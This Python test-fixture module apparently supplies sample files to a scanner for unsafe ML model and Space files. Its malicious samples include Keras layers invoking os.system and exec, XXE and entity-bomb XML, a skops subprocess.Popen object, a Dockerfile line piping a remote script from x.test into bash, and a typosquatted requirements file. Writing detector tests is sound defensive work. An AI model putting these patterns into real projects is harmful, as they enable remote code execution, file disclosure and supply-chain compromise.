"""What is written as text: configurations of Keras and tokenizers, templates, XML, skops, sources, Spaces."""

from __future__ import annotations

import base64
import json

from support.pickled import EVIL, zipped
from support.scan_samples.headers import CHATML, ESCAPES, objects

HDF5 = b"\x89HDF\r\n\x1a\n"
_BYTECODE = base64.b64encode(b"\xe3\x01" + bytes(90)).decode()
LAMBDA = {
    "class_name": "Lambda",
    "config": {"name": "l", "function": [_BYTECODE, None, None], "function_type": "lambda"},
}
_ESCAPE = ESCAPES["gguf_ssti_2.gguf"]
_FOREIGN = "--extra-" + "index-url"
_AWS = "AKIA" + "IOSFODNN7EXAMPLE"


def model(*layers: dict[str, object], name: str = "Sequential") -> dict[str, object]:
    return {"module": "keras", "class_name": name, "config": {"name": "m", "layers": list(layers)}}


def dense() -> dict[str, object]:
    return {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1, "activation": "relu"}}


def hdf5(config: dict[str, object] | None) -> bytes:
    """An HDF5 file's mark, then an attribute's text among zeros; not a whole file, as the search needs none."""
    text = b"" if config is None else json.dumps(config).encode()
    return (
        HDF5
        + bytes(88)
        + b"model_config\x00"
        + bytes(800)
        + text
        + bytes(8320 - 909 - len(text) if len(text) < 7000 else 64)
    )


def keras_zip(config: dict[str, object]) -> bytes:
    return zipped(
        {
            "metadata.json": b'{"keras_version": "3.11.0", "date_saved": "2026-01-01"}',
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": HDF5 + bytes(8000),
        }
    )


def layer(name: str, config: dict[str, object], module: str = "keras.layers") -> dict[str, object]:
    return {"module": module, "class_name": name, "config": config}


def skops(
    module: str, name: str, content: object = None, loader: str = "ObjectNode", **files: bytes
) -> bytes:
    schema = {"__class__": name, "__module__": module, "__loader__": loader, "content": content, "__id__": 1,
              "protocol": 2, "_skops_version": "0.13.0"}  # fmt: skip
    return zipped(
        {"schema.json": json.dumps(schema).encode(), **{k.replace("__", "."): v for k, v in files.items()}}
    )


def tokenizer(template: object) -> bytes:
    return json.dumps(
        {"bos_token": "<s>", "tokenizer_class": "LlamaTokenizerFast", "chat_template": template}
    ).encode()


_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<PMML version='4.4'><Header description='&b;'/></PMML>"
)
_OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    "<PMML version='4.4'><Header description='&x;'/></PMML>"
)

MALICIOUS: dict[str, bytes] = {
    "keras3_h5_lambda_renamed.keras": hdf5(model(dense(), LAMBDA)),
    "keras3_module_fn.keras": keras_zip(model(layer("function", "system", "os"))),  # type: ignore[arg-type]
    "keras3_run_command_name.keras": keras_zip(model(layer("exec", {}, "builtins"))),
    "keras3_stringlookup_file.keras": keras_zip(model(layer("StringLookup", {"vocabulary": "/etc/passwd"}))),
    "keras_lambda.h5": hdf5(model(dense(), LAMBDA)),
    "keras_lambda.hdf5": hdf5(model(LAMBDA)),
    "keras_lambda_nested.h5": hdf5(model(model(dense(), LAMBDA))),
    "keras_wrapper_lambda.h5": hdf5(model({"class_name": "TimeDistributed", "config": {"layer": LAMBDA}})),
    "lol.pmml": _LAUGHS.encode(),
    "xxe.pmml": _OUTSIDE.encode(),
    "evil_obj.skops": skops("subprocess", "Popen"),
    "skops_with_pickle.skops": skops("numpy", "ndarray", loader="NdArrayNode", array__npy=objects(EVIL)),
    "jinja_file/chat_template.jinja": ("{{ bos_token }}" + _ESCAPE).encode(),
    "processor/chat_template.json": json.dumps({"chat_template": _ESCAPE}).encode(),
    "tok_ssti_3/tokenizer_config.json": tokenizer(ESCAPES["gguf_ssti_3.gguf"]),
    "tok_ssti_list/tokenizer_config.json": tokenizer(
        [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": _ESCAPE}]
    ),
    "space_evil/Dockerfile": b"FROM python:3.10\nUSER root\nRUN curl -s http://x.test/i.sh | bash\n",
    "space_evil/requirements.txt": f"{_FOREIGN} http://x.test/simple\nreqeusts==2.0\ngradio==3.0\n".encode(),
}

SUSPECTS: dict[str, bytes] = {
    "cfg_auto_map/config.json": b'{"auto_map": {"AutoModel": "modeling_x.Net"}}',
    "space_secret/app.py": f'import gradio as gr\nAWS_ACCESS_KEY_ID = "{_AWS}"\n'.encode(),
}

BENIGN: dict[str, bytes] = {
    "cfg/config.json": b'{"architectures": ["BertModel"], "hidden_size": 8, "model_type": "bert"}',
    "code_ok/modeling_ok.py": b"import torch\nfrom torch import nn\n\n\nclass Net(nn.Module):\n    def forward(self, x):\n"
    b"        self.eval()\n        return torch.compile(self.layer)(x)\n",
    "data.csv": b"text,label\nhello,1\nworld,0\n",
    "dataset.dat": b"1.0 2.0 3.0 4.0\n" * 50,
    "jinja_ok/chat_template.jinja": CHATML.encode(),
    "keras3_dense.keras": keras_zip(model(dense())),
    "keras3_lookup_inline.keras": keras_zip(model(layer("StringLookup", {"vocabulary": ["a", "b"]}))),
    "weights_only.h5": hdf5(None),
    "ok.skops": skops("builtins", "dict", {"a": {"__class__": "int", "__module__": "builtins", "__loader__": "JsonNode"}},
                      loader="DictNode"),
    "space_ok/Dockerfile": b"FROM python:3.11\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\n"
    b"COPY . .\nCMD [\"python\", \"app.py\"]\n",
    "space_ok/app.py": b"import gradio as gr\n\n\ndef greet(name):\n    return name\n\n\n"
    b"gr.Interface(fn=greet, inputs='text', outputs='text').launch()\n",
    "space_ok/requirements.txt": b"gradio==5.0.0\ntransformers>=4.40\ntorch\n",
    "tok_chatml/tokenizer_config.json": tokenizer(CHATML),
    "tokenizer/tokenizer.json": json.dumps(
        {"model": {"vocab": {"os": 0, "system": 1, "eval(": 2, "__class__": 3, "import": 4, "exec": 5}}}
    ).encode(),
    "xgb.json": b'{"learner": {"attributes": {}, "gradient_booster": {"name": "gbtree"}}, "version": [2, 0, 0]}',
    "sentencepiece.bpe.model": b"\x0a\x0e\x0a\x05<unk>\x15\x00\x00\x00\x00\x18\x02\x0a\x07\x0a\x01a\x15\x00\x00\x00",
}  # fmt: skip
